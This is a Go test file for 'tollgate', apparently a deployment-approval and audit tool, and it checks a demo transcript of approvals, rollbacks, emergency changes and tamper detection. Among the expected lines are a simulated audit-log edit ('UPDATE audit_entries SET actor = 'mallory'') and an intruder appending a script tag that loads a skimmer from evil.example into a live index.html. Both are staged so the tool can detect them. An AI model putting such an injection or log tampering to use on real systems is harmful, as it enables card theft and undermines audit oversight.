package main

import (
	"bytes"
	"context"
	"fmt"
	"github.com/tollgate-dev/tollgate/internal/demo"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tollgate-dev/tollgate/config"
)

// TestDemoStory runs the demo (tollgate-demo --exit), then tollgate's own
// verify and evidence commands on what it left, and checks that each step of
// the story happened as a person reading the transcript would see it.
func TestDemoStory(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "data")
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	var stdout, stderr bytes.Buffer
	code := demo.Main(ctx, []string{"--exit", "--data", dir}, &stdout, &stderr)
	out := stdout.String()
	if code != exitOK {
		t.Fatalf("demo exited %d\nstderr:\n%s\nstdout:\n%s", code, stderr.String(), out)
	}
	t.Logf("transcript:\n%s", out)

	steps := []struct {
		name string
		step int    // the step of the story whose transcript must match; 0 means all of it
		want string // a regular expression
	}{
		{"Slack accounts are linked through GitHub OAuth", 1, `@carol\s+/deploy link → .* → linked to GitHub carol \(id \d+\)`},
		{"the merge webhook is signed and accepted", 2, `GitHub POST /webhooks/github  pull_request \(closed, merged into main\), signed X-Hub-Signature-256 → 202`},
		{"staging deploys the merge and GitHub shows success", 2, `deployment \d+ status success\s+deployed [0-9a-f]{7}`},
		{"the PR gets Tollgate's comment with the audit entry", 2, `(?s)tollgate\[bot\] commented on PR #1:.*Deployed .* to \*\*staging\*\*.*\*\*Audit entry\*\* #\d+`},
		{"every file goes out on the first deploy", 2, `Result: request r-\S+ succeeded in \S+, 5 files sent`},
		{"the approval request is posted with its buttons", 3, `\[ Approve \] \(asks: Approve deploying .* to \*production\*\?\)  \[ Reject \]`},
		{"the requester's own click is refused and told why", 4, `only @carol sees:\n\s+│ ⛔ you requested this deploy; someone else must approve it`},
		{"the refusal is audited", 4, `audit #\d+\s+approval\.refused\s+carol\s+r-\S+\s+\(code=self_approval\)`},
		{"Bob's approval is counted in the message", 5, `Approvals\*: 1 of 1: @bob \(bob\)`},
		{"the buttons go once approved", 5, `\(the buttons are gone\)`},
		{"production deploys to both servers", 5, `Result: request r-\S+ succeeded .*\n(.*\n)*\s+web-1\s+current → releases/\S+\n\s+web-2\s+current → releases/\S+`},
		{"the log page of the deploy is served after the GitHub login", 5, `log page: http://127\.0\.0\.1:\d+/deployments/r-\S+ \(GET → 200 OK, \d+ bytes, signed in through GitHub as @bob\)`},
		{"web-1's attestation of the production release verifies offline", 5,
			`\$ tollgate attest verify attestation\.dsse\.json --public-key \$DATA/keys/attestation-signing\.pub --audit-key \$DATA/keys/audit-signing\.pub --environment production --min-approvals 1\n\s+OK: attestation\.dsse\.json \(sha256:[0-9a-f]{64}\)\n(.*\n)*\s+approvals:  1 valid of 1 required: bob \(\d+\)\n(.*\n)*\s+\(exit status 0\)`},
		{"the manifest of the deploy is shown", 5, `manifest │ release \S+, \d+ entries, sha256:[0-9a-f]{64}\n(\s+manifest │ f \d{4}\s+\d+ sha256:[0-9a-f]{16}… \S+\n){5}`},
		{"the broken deploy fails its health check and rolls back", 6, `rolled back: previous release restored after: .*workers must be a number, got '8x'`},
		{"GitHub sees the failure", 6, `status failure\s+failed and rolled back to the previous release`},
		{"the second staging deploy sends one file", 6, `Result: request r-\S+ rolled back in \S+, 1 file sent`},
		{"the changed file is marked in the manifest", 6, `manifest │ f 0664\s+\d+ sha256:[0-9a-f]{16}… config/settings\.conf  ← changed`},
		{"the fix deploys to staging", 7, `Result: request r-\S+ succeeded in \S+, 1 file sent`},
		{"the emergency change skips approvals, not the team check", 8, `✓ emergency_team: dan is an active member of acme/oncall`},
		{"the emergency change deploys and its review is opened", 8, `audit #\d+\s+emergency\.review_opened\s+tollgate`},
		{"the review message asks an approver for the review", 8, `\[ Review: acceptable \] \(asks: .*\)  \[ Review: not acceptable \]`},
		{"Bob clicks Review: acceptable in Slack", 8, `Slack POST /slack/interactions  @bob clicks \[ Review: acceptable \] and confirms, signed → 200 OK`},
		{"Bob reviews the emergency change", 8, `audit #\d+\s+emergency\.reviewed\s+bob\s+r-\S+\s+\(outcome=acceptable`},
		{"the review is recorded", 8, `review recorded: acceptable by bob at`},
		{"the emergency's Slack message says approvals were skipped by policy", 8, `\*Approvals\*: emergency: approvals skipped by policy`},
		{"the emergency's PR comment shows no approval count", 8, `\| Approved by \| emergency: approvals skipped by policy`},
		{"the PR comment shows the review due, then given", 8, `(?s)\| Review \| ⏳ pending: due by .*\| Review \| ✅ \*\*acceptable\*\* by @bob at`},
		{"the request's Slack message shows the review once given", 8, `\*After-the-fact review\* ✓ \*acceptable\* by @bob`},
		{"the emergency's log page shows the emergency and its review", 8,
			`log page: \S+ \(GET → 200 OK.*\n\s+shows: approvals skipped by policy; reason "INC-42 checkout times out under load", ticket none given; review acceptable by bob`},
		{"verify passes on the untouched log", 9, `checkpoints:\s+\d+, every signature valid(.*\n)*\s+OK.*\n\s+\(exit status 0\)`},
		{"the attacker's edit is shown", 10, `UPDATE audit_entries SET actor = 'mallory' WHERE seq = \d+`},
		{"verify fails after the tamper step", 11, `FAIL: entry seq \d+: leaf hash does not match the entry's contents(.*\n)*\s+\(exit status 1\)`},
		{"the copy taken before the edit verifies", 11, `tollgate-before-tamper\.db(.*\n)*\s+OK.*\n\s+\(exit status 0\)`},
		{"an intruder edits a live file on web-1", 12, `web-1\$ echo '<script src=https://evil\.example/skim\.js></script>' >> /srv/shop/current/public/index\.html`},
		{"tollgate drift names it on web-1 only", 13, `(?s)DRIFT \(release \S+, attestation \S+\): 1 path.*\n\s+changed public/index\.html: sha256 [0-9a-f]{8}… -> [0-9a-f]{8}…, size \d+ -> \d+\n.*\(exit status 1\)`},
	}
	for _, s := range steps {
		t.Run(s.name, func(t *testing.T) {
			text := out
			if s.step > 0 {
				text = demoStep(out, s.step)
			}
			if !regexp.MustCompile(s.want).MatchString(text) {
				t.Errorf("step %d of the transcript does not match %q", s.step, s.want)
			}
		})
	}

	t.Run("verify names the seq that was edited", func(t *testing.T) {
		granted := regexp.MustCompile(`audit #(\d+)\s+approval\.granted\s+bob`).FindStringSubmatch(out)
		failed := regexp.MustCompile(`FAIL: entry seq (\d+):`).FindStringSubmatch(out)
		if granted == nil || failed == nil {
			t.Fatalf("approval.granted %v / FAIL line %v not found", granted, failed)
		}
		if granted[1] != failed[1] {
			t.Errorf("verify named seq %s, but the edited entry (Bob's approval) is seq %s", failed[1], granted[1])
		}
	})

	current := func(step int, server string) string {
		t.Helper()
		m := regexp.MustCompile(`(?m)^\s+` + server + `\s+current → releases/(\S+)$`).FindStringSubmatch(demoStep(out, step))
		if m == nil {
			t.Fatalf("step %d does not show what %s runs", step, server)
		}
		return m[1]
	}

	t.Run("production servers both switched to the approved release", func(t *testing.T) {
		web1, web2 := current(5, "web-1"), current(5, "web-2")
		if web1 != web2 || !strings.HasSuffix(web1, "-"+approvedSHA7(t, out)) {
			t.Fatalf("after the approved deploy web-1 runs %s and web-2 %s, want the approved commit %s", web1, web2, approvedSHA7(t, out))
		}
	})

	t.Run("rollback restored the release that ran before", func(t *testing.T) {
		before, after := current(2, "staging-1"), current(6, "staging-1")
		if before != after {
			t.Fatalf("after the rollback staging runs %s, want the release from step 2 %s", after, before)
		}
		if fixed := current(7, "staging-1"); fixed == before {
			t.Fatalf("the fix did not change what staging runs (%s)", fixed)
		}
	})

	t.Run("the demo's config gives each production server its own path", func(t *testing.T) {
		cfg, _, err := config.Load(filepath.Join(dir, demo.ConfigName))
		if err != nil {
			t.Fatal(err)
		}
		ts, err := cfg.SSHTargets()
		if err != nil {
			t.Fatal(err)
		}
		prod, ok := ts.Target(demo.Repo, "production")
		if !ok || len(prod.Servers) != 2 {
			t.Fatalf("production target %+v", prod)
		}
		for i, name := range []string{"web-1", "web-2"} {
			if want := filepath.Join(dir, "servers", name, "srv", "shop"); prod.Servers[i].Path != want {
				t.Errorf("%s deploys into %q, want %q", name, prod.Servers[i].Path, want)
			}
		}
	})

	t.Run("the data directory can be verified afterwards", func(t *testing.T) {
		var vout bytes.Buffer
		if code := dispatch(ctx, []string{"verify", "--config", filepath.Join(dir, demo.ConfigName)}, &vout, &vout); code != exitCheckFailed {
			t.Errorf("verify of the tampered database exited %d, want %d:\n%s", code, exitCheckFailed, vout.String())
		}
		vout.Reset()
		args := []string{"verify", "--database", filepath.Join(dir, demo.BackupName), "--public-key", filepath.Join(dir, "keys", "audit-signing.pub")}
		if code := dispatch(ctx, args, &vout, &vout); code != exitOK {
			t.Errorf("verify of the pre-tamper copy exited %d, want 0:\n%s", code, vout.String())
		}
		if !strings.Contains(vout.String(), "OK") {
			t.Errorf("verify of the pre-tamper copy did not say OK:\n%s", vout.String())
		}
	})

	t.Run("the printed audit prove commands prove the last entry and refuse the edited one", func(t *testing.T) {
		lines := regexp.MustCompile(`(?m)^\s+tollgate (audit prove (\d+) --config \S+)`).FindAllStringSubmatch(out, -1)
		if len(lines) != 2 {
			t.Fatalf("the transcript suggests %d audit prove commands, want 2", len(lines))
		}
		var pout, perr bytes.Buffer
		if code := dispatch(ctx, strings.Fields(lines[0][1]), &pout, &perr); code != exitOK ||
			!strings.HasPrefix(pout.String(), "tollgate audit inclusion proof v1\nseq "+lines[0][2]+"\n") {
			t.Errorf("%s exited %d, want 0 and a proof:\n%s%s", lines[0][1], code, pout.String(), perr.String())
		}
		pout.Reset()
		perr.Reset()
		if code := dispatch(ctx, strings.Fields(lines[1][1]), &pout, &perr); code != exitCheckFailed || pout.Len() > 0 ||
			!strings.Contains(perr.String(), "no longer matches its leaf hash") {
			t.Errorf("%s exited %d, want 1 and a refusal:\n%s%s", lines[1][1], code, pout.String(), perr.String())
		}
	})

	t.Run("the printed evidence command writes a pack that reconciles", func(t *testing.T) {
		line := regexp.MustCompile(`(?m)^\s+tollgate (evidence --config .*)$`).FindStringSubmatch(out)
		if line == nil {
			t.Fatal("the transcript does not say how to write the evidence pack")
		}
		var eout bytes.Buffer
		if code := dispatch(ctx, strings.Fields(line[1]), &eout, &eout); code != exitOK {
			t.Fatalf("%s exited %d, want 0:\n%s", line[1], code, eout.String())
		}
		if !strings.Contains(eout.String(), "5 changes (5 deployed)") || !strings.Contains(eout.String(), "audit log verified: yes") {
			t.Errorf("evidence pack of the story:\n%s", eout.String())
		}
		// The report's headline is literally true of the story: the
		// emergency change is counted as what it is, not as approved.
		args := strings.Fields(line[1])
		report, err := os.ReadFile(filepath.Join(args[slices.Index(args, "--out")+1], "report.html"))
		if err != nil {
			t.Fatal(err)
		}
		want := `<p class="headline" id="headline">Of 5 deployed changes, 1 had its required approvals before it started, from people other than its requester and PR author; ` +
			`3 needed no approval in their environments; and 1 was an emergency change: approvals skipped by policy (1 reviewed acceptable after the fact).</p>`
		if !strings.Contains(string(report), want) {
			t.Errorf("report.html lacks the headline %q", want)
		}
	})
}

// demoStep returns the transcript of step n ("── n. …" up to the next step).
func demoStep(out string, n int) string {
	start := strings.Index(out, fmt.Sprintf("── %d. ", n))
	if start < 0 {
		return ""
	}
	rest := out[start:]
	if end := strings.Index(rest, fmt.Sprintf("── %d. ", n+1)); end >= 0 {
		return rest[:end]
	}
	return rest
}

// approvedSHA7 is the commit of Carol's production request, from its message.
func approvedSHA7(t *testing.T, out string) string {
	t.Helper()
	m := regexp.MustCompile("Approve deploying `([0-9a-f]{7})` of acme/shop to \\*production\\*").FindStringSubmatch(out)
	if m == nil {
		t.Fatal("no approval request for production in the transcript")
	}
	return m[1]
}
